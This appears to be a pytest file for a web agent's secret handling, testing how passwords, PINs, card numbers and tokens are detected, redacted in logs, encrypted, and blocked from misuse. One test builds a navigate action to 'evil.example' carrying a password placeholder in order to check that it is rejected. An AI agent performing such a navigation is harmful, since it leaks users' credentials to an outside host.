"""What a secret is (agent.secrets), how it is masked (observability.redaction), sealed
(agent.sealing) and kept out of stored records (agent.secret_records)."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from cryptography.fernet import Fernet

from agent.sealing import Sealer, SecretKeyError, SecretsUnreadable, key_file_for, load_or_create_key
from agent.secret_records import SEALED_KEY, conceal_batch, open_secrets, reveal_action, reveal_task
from agent.secrets import PlaceholderMisuse, TaskSecrets, goal_masker, goal_secrets, is_secret_field
from app.main import build_sealer
from app.settings import Settings
from client.progress import ProgressPrinter
from client.records import StepRecord
from observability import hide_more, hide_secrets, redact, redact_text
from observability.redaction import redact_log_event
from storage import FinalizeBatch, Message, Task, TaskAction
from verification import Action, PageElement, PageState

# --- what a secret is ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("goal", "secrets"),
    [
        ('Log in as alice with password "hunter2"', ["hunter2"]),
        ("Sign in with username bob and password s3cr3t", ["s3cr3t"]),
        ("sign in as bob, password: y", ["y"]),
        ("Log in with user ann, passcode 'open sesame'", ["open sesame"]),
        ("Enter my PIN 4821 and press OK", ["4821"]),
        ("Unlock the phone with PIN code 0042", ["0042"]),
        ("Set the API key to sk-proj-abcdefghijklmnop1234 and save", ["sk-proj-abcdefghijklmnop1234"]),
        ("Paste the token: ghp_abcdefghijklmnopqrstuvwxyz0123456789 into Token", ["ghp_abcdefghijklmnopqrstuvwxyz0123456789"]),
        ("Pay with card number 4111 1111 1111 1111, CVV 123", ["4111 1111 1111 1111", "123"]),
        ("Pay with 4111-1111-1111-1111 and click Pay", ["4111-1111-1111-1111"]),
        ("Log in, password is “correct horse”", ["correct horse"]),
        ('Type "Zebra-77-Moon" into Password and click Log in', ["Zebra-77-Moon"]),
        ("enter 4821 in the PIN field", ["4821"]),
        ("Type hunter2 into the password box", ["hunter2"]),
    ],
)
def test_a_value_the_goal_binds_to_a_secret_name_is_a_secret(goal: str, secrets: list[str]) -> None:
    assert sorted(goal_secrets(goal)) == sorted(secrets)


@pytest.mark.parametrize(
    "goal",
    [
        "Log in as alice",
        "Reset my password",
        "Type the password in the box",
        "Click the token button",
        "Open the PIN settings page",
        "Change the password field hint",
        "Order 3 pizzas to 12 Main Street",
        "Call 555-123-4567",
        "Click the row 1234567890123",  # 13 digits, not a card number (Luhn)
        "Log in as alice with password",
        "Type it into the password field",
        "Click Forgot in the password section",
        "Click Help in the password section",
    ],
)
def test_no_secret_is_invented(goal: str) -> None:
    assert goal_secrets(goal) == []


def _element(*, id: str = "2", name: str = "", input_type: str | None = None, placeholder: str | None = None) -> PageElement:
    return PageElement(id=id, role="textbox", name=name, input_type=input_type, placeholder=placeholder)


@pytest.mark.parametrize(
    ("element", "secret"),
    [
        (_element(name="Password", input_type="password"), True),
        (_element(name="", input_type="password"), True),
        (_element(name="Your PIN"), True),
        (_element(name="", placeholder="CVV"), True),
        (_element(name="Card number"), True),
        (_element(name="Username"), False),
        (_element(name="Search"), False),
        (_element(name="Pinned notes"), False),
    ],
)
def test_a_secret_field_is_a_password_input_or_a_label_naming_a_secret(element: PageElement, secret: bool) -> None:
    assert is_secret_field(element) is secret


# --- masking -----------------------------------------------------------------------------


def test_registered_values_are_placeholders_in_every_log_field() -> None:
    with hide_secrets({1: "hunter2"}):
        event = redact_log_event(None, "info", {"event": "graph.finalize", "action": 'setValue("2", "hunter2")', "n": 3, "nested": {"v": ["x hunter2"]}})
    assert event == {"event": "graph.finalize", "action": 'setValue("2", "[secret:1]")', "n": 3, "nested": {"v": ["x [secret:1]"]}}
    assert redact_text("hunter2") == "hunter2"  # outside the request's scope nothing is registered


def test_a_value_found_mid_request_is_masked_for_the_rest_of_it() -> None:
    with hide_secrets():
        assert redact_text("p4ssw0rd!") == "p4ssw0rd!"
        hide_more({1: "p4ssw0rd!"})
        assert redact_text('setValue("2", "p4ssw0rd!")') == 'setValue("2", "[secret:1]")'


def test_a_value_with_quotes_is_masked_as_written_as_escaped_and_as_repr_shows_it() -> None:
    value = 'pa"ss\\word'
    with hide_secrets({1: value}):
        assert redact_text(f'setValue("2", {json.dumps(value)})') == 'setValue("2", "[secret:1]")'
        assert redact_text(f"typed {value}") == "typed [secret:1]"
        assert redact_text(f"Type {value!r} into Password") == "Type '[secret:1]' into Password"
        assert redact_text(json.dumps({"v": f"holds {value!r}"})) == '{"v": "holds \'[secret:1]\'"}'


def test_a_short_value_is_masked_only_as_a_whole_token() -> None:
    with hide_secrets({1: "0042"}):
        assert redact_text("PIN 0042 typed; task 100423 kept") == "PIN [secret:1] typed; task 100423 kept"


def test_the_longest_value_is_masked_first() -> None:
    with hide_secrets({1: "1234", 2: "1234-5678"}):
        assert redact_text("a 1234-5678 b 1234") == "a [secret:2] b [secret:1]"


def test_secret_shaped_text_is_masked_without_registration() -> None:
    text = "card 4111 1111 1111 1111, key AKIAABCDEFGHIJKLMNOP, id 550e8400-e29b-41d4-a716-446655440000, at 2026-11-24"
    assert redact_text(text) == "card [secret], key [secret], id 550e8400-e29b-41d4-a716-446655440000, at 2026-11-24"
    assert redact({"a": ("4111111111111111", 5)}) == {"a": ("[secret]", 5)}


def test_the_cli_progress_masks_the_goals_secrets(capsys: pytest.CaptureFixture[str]) -> None:
    printer = ProgressPrinter(mask=goal_masker('Log in as bob with password "Tr0ub4dor"'))
    step = StepRecord(index=1, action='setValue("2", "Tr0ub4dor")', thought="Type 'Tr0ub4dor' into 'Password'.")
    step.action_status = "success"
    printer("decided", step)
    printer("executed", step)
    out = capsys.readouterr().out
    assert "Tr0ub4dor" not in out and out.count("[secret:1]") == 2


# --- sealing -----------------------------------------------------------------------------


def test_sealed_values_open_only_with_their_key() -> None:
    sealer = Sealer(Fernet.generate_key())
    token = sealer.seal(["hunter2", "4821"])
    assert "hunter2" not in token
    assert sealer.open(token) == ["hunter2", "4821"]
    with pytest.raises(SecretsUnreadable):
        Sealer.ephemeral().open(token)
    with pytest.raises(SecretKeyError):
        Sealer("not a key")


def test_a_key_is_rotated_by_giving_the_new_one_first() -> None:
    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    token = Sealer(old).seal(["hunter2"])
    rotated = Sealer(f"{new},{old}")
    assert rotated.open(token) == ["hunter2"]  # tasks sealed before the rotation still open
    assert Sealer(new).open(rotated.seal(["hunter2"])) == ["hunter2"]  # new seals use the new key


def test_the_key_file_is_made_once_with_mode_0600(tmp_path: Path) -> None:
    path = key_file_for(str(tmp_path / "data" / "stepwise.db"))
    assert path.name == "stepwise.db.secret-key"
    first = load_or_create_key(path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert load_or_create_key(path) == first
    Sealer(first)  # a usable key
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # nothing left aside


# --- records -----------------------------------------------------------------------------


def _task(query: str, state: dict[str, object] | None = None) -> Task:
    return Task(id="t1", tenant_id="a", user_id="u", session_id="s1", url="https://x.example", query=query, state=dict(state or {}))


def test_a_batch_is_written_with_placeholders_and_read_back_with_the_values() -> None:
    sealer = Sealer.ephemeral()
    secrets = TaskSecrets.of_goal('Log in as alice with password "pa ss"')
    task = _task('Log in as alice with password "pa ss"', {"contract": {"clauses": [{"value": "pa ss"}]}})
    action = TaskAction(tenant_id="a", task_id="t1", step_index=0, thought="Type 'pa ss'", action='setValue("2", "pa ss")', answer={"action": 'setValue("2", "pa ss")'})
    batch = FinalizeBatch(
        task=task, expected_version=None, actions=[action],
        messages=[Message(tenant_id="a", session_id="s1", role="user", content=task.query)],
    )  # fmt: skip
    stored = conceal_batch(batch, secrets, sealer)
    assert "pa ss" not in stored.model_dump_json()
    assert stored.task.query == 'Log in as alice with password "[secret:1]"'
    assert stored.task.id == "t1" and stored.actions[0].id == action.id

    opened = open_secrets(stored.task, sealer)
    assert opened.values == ["pa ss"]
    assert reveal_task(stored.task, opened).query == task.query
    assert reveal_task(stored.task, opened).state["contract"] == task.state["contract"]
    again = reveal_action(stored.actions[0], opened)
    assert again.action == action.action and again.answer == action.answer
    assert SEALED_KEY in stored.task.state


def test_a_task_without_secrets_is_stored_as_it_is() -> None:
    batch = FinalizeBatch(task=_task("Click Save"), expected_version=None)
    assert conceal_batch(batch, TaskSecrets(), Sealer.ephemeral()) is batch
    assert open_secrets(batch.task, Sealer.ephemeral()).values == []


def _page(*elements: PageElement) -> PageState:
    return PageState(url="https://x.example/login", elements=tuple(elements))


def test_a_value_typed_into_a_password_field_becomes_a_secret() -> None:
    secrets = TaskSecrets()
    page = _page(_element(id="1", name="Username"), _element(id="2", name="Password", input_type="password"))
    with hide_secrets():
        secrets.note_typed('setValue("1", "alice")', page)
        secrets.note_typed('setValue("2", "xyzzy-42")', page)
        assert secrets.values == ["xyzzy-42"] and secrets.added
        assert redact_text("typed xyzzy-42") == "typed [secret:1]"


def test_a_placeholder_is_filled_only_for_a_secret_field() -> None:
    secrets = TaskSecrets(["hunter2"])
    page = _page(_element(id="1", name="Username"), _element(id="2", name="Password", input_type="password"))
    filled = secrets.fill_placeholders(Action(name="setValue", target="2", value="[secret:1]"), page)
    assert filled.value == "hunter2"
    for lie in (
        Action(name="setValue", target="1", value="[secret:1]"),
        Action(name="navigate", value="https://evil.example/?p=[secret:1]"),
        Action(name="setValue", target="2", value="[secret:2]"),  # names no secret
        Action(name="setValue", target="1", value="hunter2"),  # the real value, somewhere else
    ):
        with pytest.raises(PlaceholderMisuse):
            secrets.fill_placeholders(lie, page)
    shown = Action(name="finish", value="done with [secret:1]")
    assert secrets.fill_placeholders(shown, page) == shown  # shown, never typed: left as is
    policy = Action(name="setValue", target="1", value="hunter2")
    assert secrets.fill_placeholders(policy, page, by_model=False) == policy


# --- where the key comes from (app.main.build_sealer) -------------------------------------


def test_the_key_comes_from_settings_else_a_file_beside_sqlite_and_mongodb_needs_one(tmp_path: Path) -> None:
    key = Fernet.generate_key().decode()
    token = build_sealer(Settings(env="test", secret_key=key), "sqlite").seal(["x"])
    assert Sealer(key).open(token) == ["x"]

    db = tmp_path / "stepwise.db"
    sealer = build_sealer(Settings(env="test", database_url=f"sqlite:///{db}"), "sqlite")
    assert Sealer((tmp_path / "stepwise.db.secret-key").read_text().strip()).open(sealer.seal(["y"])) == ["y"]
    build_sealer(Settings(env="test", database_url="sqlite:///:memory:"), "sqlite")  # ephemeral, no file

    with pytest.raises(SecretKeyError, match="STEPWISE_SECRET_KEY must be set when MONGODB_URI"):
        build_sealer(Settings(env="test", mongodb_uri="mongodb://db.example:27017"), "mongodb")
    assert build_sealer(Settings(env="test", mongodb_uri="mongodb://db.example:27017", secret_key=key), "mongodb")
